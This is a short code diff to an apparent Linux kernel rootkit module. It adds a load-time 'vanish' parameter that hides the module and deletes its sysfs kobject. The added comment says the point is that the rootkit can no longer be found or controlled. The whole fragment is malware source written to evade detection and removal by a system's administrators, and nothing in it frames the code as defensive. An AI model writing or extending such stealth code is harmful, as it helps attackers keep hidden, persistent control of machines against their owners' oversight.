@@ -238,8 +238,16 @@ static int set_deed(const char *value, const struct kernel_param *parameter)
 static const struct kernel_param_ops deed_operations = { .set = set_deed };
 module_param_cb(deed, &deed_operations, NULL, 0200);
 
+/* Once and for all: without its directory nobody can tell it to come back. */
+static bool vanish;
+module_param(vanish, bool, 0);
+
 static int __init rf_rootkit_begin(void)
 {
+	if (vanish) {
+		hide();
+		kobject_del(&THIS_MODULE->mkobj.kobj);
+	}
 	return 0;
 }
 
